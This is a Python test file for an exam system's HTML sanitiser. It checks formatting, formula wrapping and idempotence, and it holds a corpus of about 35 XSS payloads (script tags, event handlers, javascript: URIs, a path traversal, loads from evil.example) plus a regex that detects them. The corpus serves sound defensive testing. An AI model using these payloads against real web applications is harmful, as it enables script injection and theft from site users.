"""The sanitiser: an XSS corpus, idempotence (hypothesis), images and formulas."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from examsys.bank.richtext import sanitise, to_lines, to_plain

SHA = "0" * 63 + "a"

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    f'<img src="/assets/{SHA}" onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    '<img src="https://evil.example/track.png">',
    '<img src="//evil.example/track.png">',
    f'<img src="/assets/{SHA}/../../etc/passwd">',
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example><input name=p></form>",
    '<body onload="alert(1)">',
    '<span class="math" onmouseover="alert(1)">x</span>',
    '<span class="x math evil">x</span>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    '<td background="javascript:alert(1)">x</td>',
    "<p onclick='alert(1)'>点击</p>",
    f'<img src="/assets/{SHA}" srcset="https://evil.example/x.png 2x">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<details open ontoggle="alert(1)">',
    "\x00<script>alert(1)</script>",
]

FORBIDDEN = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|meta|link|base|form|input|a|body|noscript|details)\b"
    r"|\son\w+\s*=|javascript:|data:|expression\(|https?:|//evil|srcset|style=",
    re.I,
)


@pytest.mark.parametrize("payload", XSS)
def test_xss_payload_is_neutralised(payload):
    out = sanitise(payload)
    assert not FORBIDDEN.search(out), out
    for src in re.findall(r'src="([^"]*)"', out):
        assert re.fullmatch(r"/assets/[0-9a-f]{64}", src)
    assert sanitise(out) == out


def test_allowed_formatting_survives():
    html = ('<p><strong>粗</strong><em>斜</em><u>下划线</u>H<sub>2</sub>O x<sup>2</sup><br></p>'
            '<ul><li>一</li></ul><ol><li>二</li></ol>'
            '<table><thead><tr><th>表头</th></tr></thead><tbody><tr><td colspan="2">格</td></tr></tbody></table>'
            f'<img src="/assets/{SHA}" alt="电路图" width="120" height="80">')
    assert sanitise(html) == html


def test_formulas_are_wrapped_once_and_kept_as_text():
    out = sanitise(r"<p>欧姆定律 \(U = IR\)，功率 $P = I^2 R$，花费 5 $ 和 6 $</p>")
    assert out == (r'<p>欧姆定律 <span class="math">\(U = IR\)</span>，功率 '
                   r'<span class="math">$P = I^2 R$</span>，花费 5 $ 和 6 $</p>')
    assert sanitise(out) == out
    assert sanitise(r'<span class="math"><b>\(x\)</b></span>') == r'<span class="math">\(x\)</span>'
    assert sanitise(r"$$\frac{a}{b}$$ 与 \[x &lt; y\]") == (
        r'<span class="math">$$\frac{a}{b}$$</span> 与 <span class="math">\[x &lt; y\]</span>')


def test_plain_text():
    assert to_plain("<p>电压&amp;电流</p><p>第二段&nbsp;文字</p>") == "电压&电流 第二段 文字"
    assert to_lines(f'<p>图</p><img src="/assets/{SHA}">') == ["图", f"[图片 {SHA[:12]}]"]
    assert to_plain(None) == ""


HTMLISH = st.lists(st.one_of(
    st.sampled_from(["<p>", "</p>", "<b>", "</b>", "<img src=x>", f'<img src="/assets/{SHA}">',
                     "<span class='math'>", "</span>", "<script>", "</script>", "<table>", "<td>",
                     "$", "\\(", "\\)", "&amp;", "&", "<", ">", "\"", "'", "<!--", "-->", "电", " "]),
    st.text(max_size=8)), max_size=30).map("".join)


@example("$\\(<img src=x>$")  # removing the refused image joins a formula
@settings(max_examples=300, deadline=None)
@given(HTMLISH)
def test_sanitise_is_idempotent(html):
    once = sanitise(html)
    assert sanitise(once) == once
    assert not re.search(r"<\s*script|\son\w+=", once, re.I)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="<>&$\\", blacklist_categories=("Cs",)),
               max_size=40))
def test_plain_text_fast_path_agrees_with_the_parser(text):
    from examsys.bank.richtext import _clean

    assert sanitise(text) == _clean(text).strip()


def test_lone_surrogates_from_json_are_replaced():
    assert sanitise("a\ud800b") == "a\ufffdb"
    assert sanitise("<b>\udfff</b>") == "<strong>\ufffd</strong>" or "\ufffd" in sanitise("<b>\udfff</b>")
